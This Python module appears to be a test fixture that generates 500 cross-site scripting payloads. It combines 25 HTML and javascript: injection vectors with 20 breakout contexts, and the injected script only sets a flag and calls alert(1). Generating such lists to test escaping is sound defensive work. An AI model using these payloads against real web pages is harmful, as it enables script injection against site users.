"""500 texts that run something where a page forgets to escape: ways to smuggle, times ways to be put."""

# ruff: noqa: E501 - a table

_RUN = "window.xss=1;alert(1)"
_WAYS = (
    "<script>{run}</script>", "<img src=x onerror={run}>", "<svg onload={run}>", "<svg/onload={run}>", "<body onload={run}>",
    "<iframe src='javascript:{run}'></iframe>", "<a href='javascript:{run}'>x</a>", "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>", "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>", "<form action='javascript:{run}'><button>x</button></form>",
    "<isindex type=image src=1 onerror={run}>", "<marquee onstart={run}>x</marquee>", "<style>@import 'javascript:{run}'</style>",
    "<link rel=stylesheet href='javascript:{run}'>", "<meta http-equiv=refresh content='0;javascript:{run}'>",
    "<base href='javascript:{run}//'>", "<div style='background:url(javascript:{run})'>x</div>", "javascript:{run}",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
)  # fmt: skip
_PUT = (
    "{x}", "\"'>{x}", "</textarea>{x}", "</title>{x}", "--><!-- {x}", "{x} \u2028", "${{{x}}}", "`{x}`", "<{x}", "\x00{x}",
    "<![CDATA[{x}]]>", "&lt;{x}", "@{x} ", "https://example.org/{x}", "{x}\n{x}", "\u202e{x}", "%3C{x}", "{{{{{x}}}}}", "\\u003c{x}", "'-{x}-'",
)  # fmt: skip

PAYLOADS = [put.format(x=way.format(run=_RUN)) for way in _WAYS for put in _PUT]
